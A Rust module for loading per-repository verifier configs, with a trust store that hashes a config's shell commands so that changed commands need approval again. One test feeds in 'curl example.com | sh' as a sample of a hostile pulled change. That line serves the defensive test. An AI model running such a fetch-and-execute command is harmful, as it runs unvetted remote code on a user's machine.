@@ -0,0 +1,404 @@
+use crate::app::{Config, Verifier, VerifierKind, DEFAULT_SUITE};
+use crate::backend::BackendConfig;
+use crate::git::GitMode;
+use crate::retry::RetryPolicy;
+use crate::runner::SuiteLimits;
+use serde::Deserialize;
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// Name of the per-repository config file.
+pub const FILE_NAME: &str = ".verifiers.toml";
+
+/// A repository's `.verifiers.toml`. Every setting is optional; whatever it sets
+/// overrides the global `verifiers.json`.
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ProjectConfig {
+    pub backend: Option<BackendConfig>,
+    pub concurrency: Option<usize>,
+    pub max_iterations: Option<u32>,
+    pub time_budget_secs: Option<u64>,
+    pub worker_timeout_secs: Option<u64>,
+    pub verifier_timeout_secs: Option<u64>,
+    pub git: Option<GitMode>,
+    pub git_reset_on: Option<Vec<String>>,
+    pub retry: Option<RetryPolicy>,
+    pub fail_fast: Option<bool>,
+    /// Replaces the global default suite entirely, so everyone on the repository runs
+    /// the same set.
+    pub verifiers: Option<Vec<Verifier>>,
+    /// Named suites; each replaces the global suite of the same name.
+    pub suites: Option<BTreeMap<String, Vec<Verifier>>>,
+    /// Suites' own limits; each replaces the global limits of the same suite.
+    pub suite_limits: Option<BTreeMap<String, SuiteLimits>>,
+}
+
+/// The nearest `.verifiers.toml` in `start` or one of its parent directories.
+pub fn find(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(FILE_NAME))
+        .find(|path| path.is_file())
+}
+
+pub fn parse(contents: &str) -> Result<ProjectConfig, String> {
+    toml::from_str(contents).map_err(|e| e.to_string())
+}
+
+pub fn load(path: &Path) -> Result<ProjectConfig, String> {
+    let contents = std::fs::read_to_string(path).map_err(|e| format!("Failed to read {}: {}", path.display(), e))?;
+    parse(&contents).map_err(|e| format!("Invalid {}: {}", path.display(), e))
+}
+
+/// Find and load the project config for `dir`. `Ok(None)` if there isn't one.
+pub fn discover(dir: &Path) -> Result<Option<(PathBuf, ProjectConfig)>, String> {
+    match find(dir) {
+        Some(path) => load(&path).map(|project| Some((path, project))),
+        None => Ok(None),
+    }
+}
+
+/// Project configs the user has agreed to run commands from, remembered in the data
+/// directory by path and a hash of their commands. Changing the commands, e.g. through
+/// a `git pull`, needs trust again.
+pub struct TrustStore {
+    path: PathBuf,
+}
+
+impl TrustStore {
+    pub fn open() -> Self {
+        let data_dir = dirs::data_dir().unwrap_or_else(|| PathBuf::from("."));
+        Self::at(data_dir.join("verifiers").join("trusted_projects.json"))
+    }
+
+    pub fn at(path: impl Into<PathBuf>) -> Self {
+        Self { path: path.into() }
+    }
+
+    fn load(&self) -> BTreeMap<PathBuf, String> {
+        std::fs::read_to_string(&self.path)
+            .ok()
+            .and_then(|contents| serde_json::from_str(&contents).ok())
+            .unwrap_or_default()
+    }
+
+    /// Whether `config`, the file at `path`, was trusted with the commands it has now.
+    pub fn is_trusted(&self, path: &Path, config: &ProjectConfig) -> bool {
+        self.load().get(path) == Some(&config.commands_hash())
+    }
+
+    /// Remember the file at `path` as trusted to run `config`'s commands.
+    pub fn trust(&self, path: &Path, config: &ProjectConfig) -> Result<(), String> {
+        let mut trusted = self.load();
+        trusted.insert(path.to_path_buf(), config.commands_hash());
+        if let Some(parent) = self.path.parent() {
+            std::fs::create_dir_all(parent).map_err(|e| format!("Failed to create {}: {}", parent.display(), e))?;
+        }
+        let json = serde_json::to_string_pretty(&trusted).map_err(|e| e.to_string())?;
+        std::fs::write(&self.path, json).map_err(|e| format!("Failed to write {}: {}", self.path.display(), e))
+    }
+}
+
+impl ProjectConfig {
+    /// The shell commands this file would run: a command backend and command
+    /// verifiers. A file with any must be trusted before they are used.
+    pub fn commands(&self) -> Vec<String> {
+        let mut commands = Vec::new();
+        if let Some(BackendConfig::Command { command }) = &self.backend {
+            commands.push(format!("backend: {}", command));
+        }
+        let suites = self
+            .verifiers
+            .iter()
+            .map(|verifiers| (DEFAULT_SUITE, verifiers))
+            .chain(self.suites.iter().flatten().map(|(name, verifiers)| (name.as_str(), verifiers)));
+        for (suite, verifiers) in suites {
+            for verifier in verifiers.iter().filter(|v| v.kind == VerifierKind::Command) {
+                commands.push(format!("{} ({}): {}", verifier.name, suite, verifier.prompt));
+            }
+        }
+        commands
+    }
+
+    /// Hex SHA-256 of `commands`, to tell when they change after being trusted.
+    fn commands_hash(&self) -> String {
+        let commands = serde_json::to_string(&self.commands()).unwrap_or_default();
+        Sha256::digest(commands.as_bytes())
+            .iter()
+            .map(|byte| format!("{:02x}", byte))
+            .collect()
+    }
+
+    /// This file without the settings `commands` lists, for a project that isn't trusted.
+    pub fn without_commands(&self) -> ProjectConfig {
+        let mut project = self.clone();
+        if matches!(project.backend, Some(BackendConfig::Command { .. })) {
+            project.backend = None;
+        }
+        let suites = project.verifiers.iter_mut().chain(project.suites.iter_mut().flat_map(|suites| suites.values_mut()));
+        for verifiers in suites {
+            verifiers.retain(|v| v.kind != VerifierKind::Command);
+        }
+        project
+    }
+
+    /// The verifiers this file sets for `suite`, if any.
+    pub fn suite(&self, suite: &str) -> Option<&Vec<Verifier>> {
+        if suite == DEFAULT_SUITE {
+            self.verifiers.as_ref()
+        } else {
+            self.suites.as_ref()?.get(suite)
+        }
+    }
+
+    /// Override `config` with every setting this file sets.
+    pub fn apply(&self, config: &mut Config) {
+        if let Some(backend) = &self.backend {
+            config.backend = backend.clone();
+        }
+        if let Some(concurrency) = self.concurrency {
+            config.options.concurrency = concurrency;
+        }
+        if let Some(max_iterations) = self.max_iterations {
+            config.options.max_iterations = max_iterations;
+        }
+        if let Some(secs) = self.time_budget_secs {
+            config.options.time_budget_secs = secs;
+        }
+        if let Some(secs) = self.worker_timeout_secs {
+            config.options.worker_timeout_secs = secs;
+        }
+        if let Some(secs) = self.verifier_timeout_secs {
+            config.options.verifier_timeout_secs = secs;
+        }
+        if let Some(git) = self.git {
+            config.options.git = git;
+        }
+        if let Some(names) = &self.git_reset_on {
+            config.options.git_reset_on = names.clone();
+        }
+        if let Some(retry) = self.retry {
+            config.options.retry = retry;
+        }
+        if let Some(fail_fast) = self.fail_fast {
+            config.options.fail_fast = fail_fast;
+        }
+        if let Some(verifiers) = &self.verifiers {
+            config.verifiers = verifiers.clone();
+        }
+        for (name, verifiers) in self.suites.iter().flatten() {
+            config.suites.insert(name.clone(), verifiers.clone());
+        }
+        for (name, limits) in self.suite_limits.iter().flatten() {
+            config.suite_limits.insert(name.clone(), limits.clone());
+        }
+    }
+
+    /// The inverse of `apply` for saving: put `global`'s values back into `config` for
+    /// every setting this file sets, so project settings don't leak into the global file.
+    pub fn unapply(&self, config: &mut Config, global: &Config) {
+        if self.backend.is_some() {
+            config.backend = global.backend.clone();
+        }
+        if self.concurrency.is_some() {
+            config.options.concurrency = global.options.concurrency;
+        }
+        if self.max_iterations.is_some() {
+            config.options.max_iterations = global.options.max_iterations;
+        }
+        if self.time_budget_secs.is_some() {
+            config.options.time_budget_secs = global.options.time_budget_secs;
+        }
+        if self.worker_timeout_secs.is_some() {
+            config.options.worker_timeout_secs = global.options.worker_timeout_secs;
+        }
+        if self.verifier_timeout_secs.is_some() {
+            config.options.verifier_timeout_secs = global.options.verifier_timeout_secs;
+        }
+        if self.git.is_some() {
+            config.options.git = global.options.git;
+        }
+        if self.git_reset_on.is_some() {
+            config.options.git_reset_on = global.options.git_reset_on.clone();
+        }
+        if self.retry.is_some() {
+            config.options.retry = global.options.retry;
+        }
+        if self.fail_fast.is_some() {
+            config.options.fail_fast = global.options.fail_fast;
+        }
+        if self.verifiers.is_some() {
+            config.verifiers = global.verifiers.clone();
+        }
+        for name in self.suites.iter().flatten().map(|(name, _)| name) {
+            match global.suites.get(name) {
+                Some(verifiers) => config.suites.insert(name.clone(), verifiers.clone()),
+                None => config.suites.remove(name),
+            };
+        }
+        for name in self.suite_limits.iter().flatten().map(|(name, _)| name) {
+            match global.suite_limits.get(name) {
+                Some(limits) => config.suite_limits.insert(name.clone(), limits.clone()),
+                None => config.suite_limits.remove(name),
+            };
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::app::VerifierKind;
+    use uuid::Uuid;
+
+    const PROJECT: &str = r#"
+max_iterations = 3
+time_budget_secs = 3600
+verifier_timeout_secs = 600
+git = "branch"
+git_reset_on = ["tests"]
+retry = "affected"
+fail_fast = true
+
+[backend]
+type = "claude"
+model = "opus"
+
+[[verifiers]]
+name = "tests"
+prompt = "cargo test"
+kind = "command"
+
+[[suites.docs]]
+name = "links"
+prompt = "Every link in the docs resolves"
+
+[suite_limits.docs]
+max_iterations = 2
+"#;
+
+    #[test]
+    fn project_settings_override_global_ones() {
+        let project = parse(PROJECT).unwrap();
+        let mut config = Config::default();
+        config.options.concurrency = 2;
+        config.verifiers = vec![Verifier {
+            name: "style".to_string(),
+            prompt: "tidy".to_string(),
+            enabled: true,
+            kind: VerifierKind::Agent,
+            files: Vec::new(),
+            gate: false,
+        }];
+        let global = config.clone();
+
+        project.apply(&mut config);
+        assert_eq!(
+            config.backend,
+            BackendConfig::Claude {
+                model: Some("opus".to_string())
+            }
+        );
+        assert_eq!(config.options.max_iterations, 3);
+        assert_eq!(config.options.time_budget_secs, 3600);
+        assert_eq!(config.options.verifier_timeout_secs, 600);
+        assert_eq!(config.options.git, GitMode::Branch);
+        assert_eq!(config.options.git_reset_on, vec!["tests"]);
+        assert_eq!(config.options.retry, RetryPolicy::Affected);
+        assert!(config.options.fail_fast);
+        // Unset in the project file, so the global value stays.
+        assert_eq!(config.options.concurrency, 2);
+        assert_eq!(config.verifiers.len(), 1);
+        assert_eq!(config.verifiers[0].name, "tests");
+        assert_eq!(config.verifiers[0].kind, VerifierKind::Command);
+        assert_eq!(config.suite_names(), vec!["default", "docs"]);
+        assert_eq!(config.suite("docs").unwrap()[0].name, "links");
+        assert_eq!(config.suite_limits["docs"].max_iterations, Some(2));
+
+        config.options.concurrency = 8;
+        project.unapply(&mut config, &global);
+        assert_eq!(config.options.concurrency, 8);
+        assert_eq!(config.options.max_iterations, global.options.max_iterations);
+        assert_eq!(config.options.time_budget_secs, 0);
+        assert_eq!(config.options.git, GitMode::Off);
+        assert_eq!(config.options.retry, RetryPolicy::All);
+        assert!(!config.options.fail_fast);
+        assert_eq!(config.verifiers[0].name, "style");
+        assert!(config.suites.is_empty());
+        assert!(config.suite_limits.is_empty());
+    }
+
+    #[test]
+    fn unknown_keys_are_rejected() {
+        assert!(parse("max_iteration = 3").is_err());
+    }
+
+    #[test]
+    fn found_by_walking_up() {
+        let root = std::env::temp_dir().join(format!("verifiers_project_{}", Uuid::new_v4()));
+        let nested = root.join("crates/core/src");
+        std::fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find(&nested), None);
+
+        std::fs::write(root.join(FILE_NAME), "concurrency = 1\n").unwrap();
+        assert_eq!(find(&nested), Some(root.join(FILE_NAME)));
+        let (_, project) = discover(&nested).unwrap().unwrap();
+        assert_eq!(project.concurrency, Some(1));
+
+        std::fs::write(root.join(FILE_NAME), "concurrency = \"one\"\n").unwrap();
+        assert!(discover(&nested).is_err());
+        let _ = std::fs::remove_dir_all(&root);
+    }
+
+    #[test]
+    fn commands_need_trust() {
+        let project = parse(PROJECT).unwrap();
+        assert_eq!(project.commands(), vec!["tests (default): cargo test"]);
+        let safe = project.without_commands();
+        assert!(safe.commands().is_empty());
+        assert!(safe.verifiers.as_ref().unwrap().is_empty());
+        assert_eq!(safe.suite("docs").unwrap()[0].name, "links");
+        // The Claude backend runs no command of the project's, so it stays.
+        assert!(safe.backend.is_some());
+
+        let project = parse(
+            "[backend]\ntype = \"command\"\ncommand = \"my-agent -\"\n\n\
+             [[suites.docs]]\nname = \"build\"\nprompt = \"mdbook build\"\nkind = \"command\"\n",
+        )
+        .unwrap();
+        assert_eq!(project.commands(), vec!["backend: my-agent -", "build (docs): mdbook build"]);
+        let safe = project.without_commands();
+        assert_eq!(safe.backend, None);
+        assert!(safe.suite("docs").unwrap().is_empty());
+
+        let store = TrustStore::at(std::env::temp_dir().join(format!("verifiers_trust_{}/trusted.json", Uuid::new_v4())));
+        let path = Path::new("/src/app/.verifiers.toml");
+        assert!(!store.is_trusted(path, &project));
+        store.trust(path, &project).unwrap();
+        assert!(store.is_trusted(path, &project));
+        assert!(!store.is_trusted(Path::new("/src/other/.verifiers.toml"), &project));
+        let _ = std::fs::remove_dir_all(store.path.parent().unwrap());
+    }
+
+    #[test]
+    fn changed_commands_need_trust_again() {
+        let store = TrustStore::at(std::env::temp_dir().join(format!("verifiers_trust_{}/trusted.json", Uuid::new_v4())));
+        let path = Path::new("/src/app/.verifiers.toml");
+        let project = parse(PROJECT).unwrap();
+        store.trust(path, &project).unwrap();
+
+        // Settings other than commands can change without asking again.
+        let mut retuned = project.clone();
+        retuned.max_iterations = Some(5);
+        assert!(store.is_trusted(path, &retuned));
+
+        let pulled = parse(&PROJECT.replace("cargo test", "curl example.com | sh")).unwrap();
+        assert!(!store.is_trusted(path, &pulled));
+        store.trust(path, &pulled).unwrap();
+        assert!(store.is_trusted(path, &pulled));
+        assert!(!store.is_trusted(path, &project));
+        let _ = std::fs::remove_dir_all(store.path.parent().unwrap());
+    }
+}